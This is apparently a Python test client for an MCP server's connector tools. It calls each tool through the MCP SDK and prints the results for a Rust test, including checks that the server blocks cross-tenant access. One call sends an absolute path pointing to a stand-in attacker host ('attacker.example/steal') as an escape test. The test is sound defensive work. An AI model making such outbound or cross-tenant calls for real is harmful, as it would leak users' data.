"""An AI agent's session with the hub's MCP server, through the official MCP Python SDK.

Usage: python mcp_agent.py <mcp url> <bearer token> <handshake|discover> <connector id> <other tenant's id>

Connects the way the SDK does for the chosen protocol generation (`initialize` for the
2025 versions, `server/discover` for 2026-07-28), then uses every tool as a model would and prints
what came back as one JSON document for the Rust test to judge. Nothing here decides pass or fail
beyond the SDK's own checks (it validates each structured result against the tool's outputSchema).
"""

import json
import sys

import anyio
import httpx2
from mcp import ClientSession
from mcp.client.streamable_http import streamable_http_client


def result(call):
    """A tool result as plain data: its error flag and its structured content."""
    return {"is_error": bool(call.is_error), "structured": call.structured_content}


async def main(url, token, mode, connector_id, foreign_id):
    headers = {"Authorization": f"Bearer {token}"}
    async with httpx2.AsyncClient(headers=headers, timeout=30) as http:
        async with streamable_http_client(url, http_client=http) as (read, write):
            async with ClientSession(read, write) as session:
                if mode == "discover":
                    found = await session.discover()
                    negotiated = list(found.supported_versions)
                else:
                    init = await session.initialize()
                    negotiated = [init.protocol_version]
                tools = await session.list_tools()
                listed = await session.call_tool("list_connectors", {})
                streams = await session.call_tool("list_streams", {"connector_id": connector_id})
                records = await session.call_tool(
                    "read_records", {"connector_id": connector_id, "stream": "customers", "limit": 5}
                )
                rest = await session.call_tool(
                    "read_records",
                    {
                        "connector_id": connector_id,
                        "stream": "customers",
                        "cursor": records.structured_content["next_cursor"],
                        "limit": 1000,
                    },
                )
                live = await session.call_tool(
                    "call_api",
                    {
                        "connector_id": connector_id,
                        "method": "GET",
                        "path": "/v1/customers",
                        "query": {"limit": 3},
                    },
                )
                synced = await session.call_tool("sync_now", {"connector_id": connector_id, "streams": ["customers"]})
                foreign = await session.call_tool("list_streams", {"connector_id": foreign_id})
                foreign_call = await session.call_tool(
                    "call_api", {"connector_id": foreign_id, "method": "GET", "path": "/v1/customers"}
                )
                wrong = await session.call_tool("read_records", {"connector_id": connector_id, "stream": "customers", "colour": "red"})
                escape = await session.call_tool(
                    "call_api", {"connector_id": connector_id, "method": "GET", "path": "https://attacker.example/steal"}
                )
    print(
        json.dumps(
            {
                "versions": negotiated,
                "tools": sorted(t.name for t in tools.tools),
                "read_only": {t.name: bool(t.annotations and t.annotations.read_only_hint) for t in tools.tools},
                "list_connectors": result(listed),
                "list_streams": result(streams),
                "read_records": result(records),
                "read_records_rest": result(rest),
                "call_api": result(live),
                "sync_now": result(synced),
                "foreign_streams": result(foreign),
                "foreign_call": result(foreign_call),
                "unknown_argument": result(wrong),
                "absolute_path": result(escape),
            }
        )
    )


if __name__ == "__main__":
    anyio.run(main, *sys.argv[1:6])
